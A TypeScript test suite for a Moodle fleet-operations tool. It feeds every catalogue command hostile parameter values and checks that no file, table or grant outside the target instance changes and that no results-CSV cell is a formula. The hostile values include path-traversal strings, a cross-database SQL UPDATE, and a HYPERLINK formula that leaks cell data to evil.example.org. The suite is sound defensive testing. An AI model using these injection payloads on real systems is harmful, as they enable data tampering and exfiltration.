import { createHash } from 'node:crypto';
import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
  lstatSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { resultCsv } from '../../src/bot/slack/progress.ts';
import { CATALOG } from '../../src/ops/commands/index.ts';
import { defineCommand, type CommandDef, type ParamSpec } from '../../src/ops/commands/command.ts';
import { runCli } from '../support/cli.ts';
import { leaseMoodleDatabase, serverConnection, type TestDatabase } from '../support/databases.ts';
import { opsFixture, registerInstances, type OpsFixture } from '../support/fleet.ts';
import { fakePhp } from '../support/fake-php.ts';
import { ExecutorWorker } from '../../src/ops/executor/worker.ts';
import { testServices } from '../support/services.ts';

/**
 * Every command of the catalogue, with hostile values in every parameter it takes as text, run on one instance as an
 * operator's plan would be: nothing outside that instance may change, neither a table of another database (by
 * CHECKSUM TABLE, and the rights logins hold on them) nor a file under the dataroots, templates, transfer and output folders (by hash), and no cell of
 * a results CSV may be a formula. The walk reads the catalogue when it runs, so a command added to it is covered
 * with no test of its own.
 */
let fx: OpsFixture;
let root: string;
let target: TestDatabase;
let bystander: TestDatabase;
const OUTSIDE = () => join(root, 'outside');

/** Values an attacker with operator rights would type into any text field. */
const hostile = () => [
  `../../../${relative('/', OUTSIDE())}/canary.txt`,
  join(root, 'link-out', 'canary.txt'),
  `${bystander.name}.mdl_config`,
  `UPDATE \`${bystander.name}\`.mdl_config SET value = 'walked' WHERE name = 'theme'`,
  '=HYPERLINK("http://evil.example.org/"&A1)',
  `@SUM(1)${'x'.repeat(70_000)}`,
];

/** A benign value for a parameter a hostile text cannot stand in for (a choice, a flag, a number). */
function benign(spec: ParamSpec): string | undefined {
  if (spec.type === 'boolean') return spec.default ?? '0';
  if (spec.type === 'enum' || spec.type === 'menum') return spec.default ?? spec.choices?.[0];
  if (spec.type === 'int') return spec.default ?? '1';
  return undefined;
}

/** Every table of the databases the target does not own, by CHECKSUM TABLE (the product's own audit tables aside). */
async function databaseState(): Promise<Map<string, string>> {
  const conn = await serverConnection();
  try {
    const [tables] = await conn.query(
      "SELECT TABLE_SCHEMA AS db, TABLE_NAME AS t FROM information_schema.TABLES WHERE TABLE_TYPE = 'BASE TABLE' AND TABLE_SCHEMA IN (?, ?) AND TABLE_NAME NOT LIKE 'vmops\\_%'",
      [bystander.name, fx.master.name],
    );
    const registry = `${fx.master.name}.${fx.rt.registry.table}`;
    const names = (tables as Array<{ db: string; t: string }>)
      .map((r) => `${r.db}.${r.t}`)
      .filter((n) => n !== registry)
      .map((n) =>
        n
          .split('.')
          .map((p) => `\`${p}\``)
          .join('.'),
      );
    const [sums] = await conn.query(`CHECKSUM TABLE ${names.join(', ')}`);
    // The target's own registry row is its own (a cron run counts there, as VMoodle's does); every other row is not.
    const [rows] = await conn.query(
      `SELECT * FROM \`${fx.master.name}\`.\`${fx.rt.registry.table}\` WHERE shortname <> 'alpha' ORDER BY id`,
    );
    // Rights on those databases (other suites make and drop logins of their own on the server meanwhile).
    const [grants] = await conn.query("SELECT * FROM mysql.db WHERE REPLACE(Db, '\\\\_', '_') IN (?, ?)", [
      bystander.name,
      fx.master.name,
    ]);
    const hash = (v: unknown) => createHash('sha256').update(JSON.stringify(v)).digest('hex');
    return new Map([
      ...(sums as Array<{ Table: string; Checksum: string }>).map((r) => [r.Table, String(r.Checksum)] as const),
      [registry, hash(rows)],
      ['mysql.db', hash(grants)],
    ]);
  } finally {
    await conn.end();
  }
}

/** A hash of every file and link under the walk's folders, the target's own dataroot aside. */
function fileState(): Map<string, string> {
  const out = new Map<string, string>();
  const walk = (dir: string) => {
    for (const entry of readdirSync(dir, { withFileTypes: true })) {
      const path = join(dir, entry.name);
      if (path === join(root, 'dataroots', 'alpha')) continue;
      if (entry.isSymbolicLink()) out.set(path, `link:${lstatSync(path).size}`);
      else if (entry.isDirectory()) walk(path);
      else out.set(path, createHash('sha256').update(readFileSync(path)).digest('hex'));
    }
  };
  walk(root);
  return out;
}

const changed = (before: Map<string, string>, after: Map<string, string>) =>
  [...new Set([...before.keys(), ...after.keys()])].filter((k) => before.get(k) !== after.get(k));

/** Runs each command with each hostile value; returns what changed outside the target, by command. */
async function walk(
  commands: readonly CommandDef[],
): Promise<Array<{ command: string; changed: string[]; formula?: string }>> {
  const found: Array<{ command: string; changed: string[]; formula?: string }> = [];
  let databases = await databaseState();
  let files = fileState();
  const made = new Set<string>();
  for (const command of commands) {
    let ran = false;
    for (const value of hostile()) {
      const words = command.params.map((spec) => `${spec.name}=${benign(spec) ?? value}`);
      const result = await runCli(
        ['--json', 'run', command.name, '--hosts', 'alpha', ...words, '--yes', '--confirm=1'],
        fx.env,
      );
      const json = result.stdout ? (JSON.parse(result.stdout) as { run?: number }) : undefined;
      if (json?.run) {
        ran = true;
        // What a command makes is its own: a snapshot's template, named by its parameter, is the target's copy.
        for (const t of await fx.rt.store.getTargets(json.run))
          if (t.status === 'applied' && t.new_value) made.add(join(fx.rt.config.lifecycle.templatesDir, t.new_value));
        const cells = (parseCsv(resultCsv(await fx.rt.store.getTargets(json.run))) as string[][]).flat();
        const formula = cells.find((cell) => /^[=+\-@\t\r]/.test(cell));
        if (formula) found.push({ command: command.name, changed: [], formula });
      }
    }
    const nowFiles = fileState();
    const nowDatabases = ran ? await databaseState() : databases;
    const differences = [
      ...changed(files, nowFiles).filter((path) => ![...made].some((own) => path.startsWith(`${own}/`))),
      ...changed(databases, nowDatabases),
    ];
    if (differences.length) found.push({ command: command.name, changed: differences });
    files = nowFiles;
    databases = nowDatabases;
  }
  return found;
}

describe.runIf(testServices().moodleDump)(
  'every command of the catalogue, with hostile parameters, changes nothing outside its target',
  () => {
    beforeAll(async () => {
      const master = await leaseMoodleDatabase();
      [target, bystander] = [await leaseMoodleDatabase(), await leaseMoodleDatabase()];
      root = mkdtempSync(join(tmpdir(), 'vmops-walk-'));
      afterAll(() => rmSync(root, { recursive: true, force: true }));
      for (const dir of ['dataroots', 'templates', 'transfer', 'outputs', 'outside'])
        mkdirSync(join(root, dir), { recursive: true });
      writeFileSync(join(OUTSIDE(), 'canary.txt'), 'untouched');
      symlinkSync(OUTSIDE(), join(root, 'link-out'));
      symlinkSync(OUTSIDE(), join(root, 'dataroots', 'link-out'));
      // One web node holding every dataroot, with a stand-in PHP that has every wrapper a command declares, so that
      // the commands that run Moodle's PHP or work on files run as far as they would on a real node.
      const wrappers = [...new Set([...CATALOG.values()].flatMap((c) => Object.keys(c.phpScripts ?? {})))];
      const php = fakePhp({ wrappers });
      const nodes = join(root, 'nodes.yml');
      writeFileSync(
        nodes,
        `web1:\n  code_root: ${php.codeRoot}\n  dataroots: [${join(root, 'dataroots')}]\n  php: ${php.php}\n  max_php: 2\n  transfer_dir: ${join(root, 'transfer')}\n`,
      );
      fx = await opsFixture('walk', master, {
        VMOODLE_NODES: nodes,
        VMOODLE_NODE: 'web1',
        VMOODLE_DATAROOT_ROOT: join(root, 'dataroots'),
        VMOODLE_TEMPLATES_DIR: join(root, 'templates'),
        VMOODLE_TARGET_TIMEOUT: '5',
        VMOODLE_ATTEMPTS: '1',
      });
      await registerInstances(fx, [
        { shortname: 'alpha', database: target.name, dataroot: join(root, 'dataroots', 'alpha') },
        { shortname: 'bystander', database: bystander.name, dataroot: join(root, 'dataroots', 'bystander') },
      ]);
      writeFileSync(join(root, 'dataroots', 'bystander', 'cache', 'kept.txt'), 'a cache of another site');
      const worker = new ExecutorWorker(fx.rt, { node: 'web1' });
      afterAll(() => worker.close());
    });

    it('walks the whole catalogue', async () => {
      const commands = [...CATALOG.values()];
      expect(commands.length).toBeGreaterThan(40);
      expect(await walk(commands)).toEqual([]);
      expect(readFileSync(join(OUTSIDE(), 'canary.txt'), 'utf8')).toBe('untouched');
    });

    it('covers a command added to the catalogue with no test of its own, and finds what it changes outside its target', async () => {
      // A careless command: it writes wherever its parameter says, and into another site's database.
      const careless = defineCommand({
        name: 'test/careless',
        category: 'generic',
        summary: 'writes where it is told',
        params: [{ name: 'path', type: 'text', label: 'Path' }],
        destructive: false,
        reversible: false,
        idempotent: true,
        needsSource: false,
        writes: true,
        runsOn: 'any',
        async apply(ctx, t, p) {
          writeFileSync(join(root, 'outputs', 'careless.txt'), p.path.slice(0, 100));
          await ctx.moodle.withConnection(t, (conn) =>
            conn.query(`UPDATE \`${bystander.name}\`.mdl_config SET value = 'careless' WHERE name = 'theme'`),
          );
          return { status: 'applied' };
        },
      });
      const catalog = CATALOG as Map<string, CommandDef>;
      catalog.set(careless.name, careless);
      try {
        const found = await walk([...CATALOG.values()].filter((c) => c.name === 'test/careless'));
        expect(found.map((f) => f.command)).toEqual(['test/careless']);
        expect(found[0]?.changed).toEqual(
          expect.arrayContaining([join(root, 'outputs', 'careless.txt'), `${bystander.name}.mdl_config`]),
        );
      } finally {
        catalog.delete(careless.name);
      }
    });
  },
);
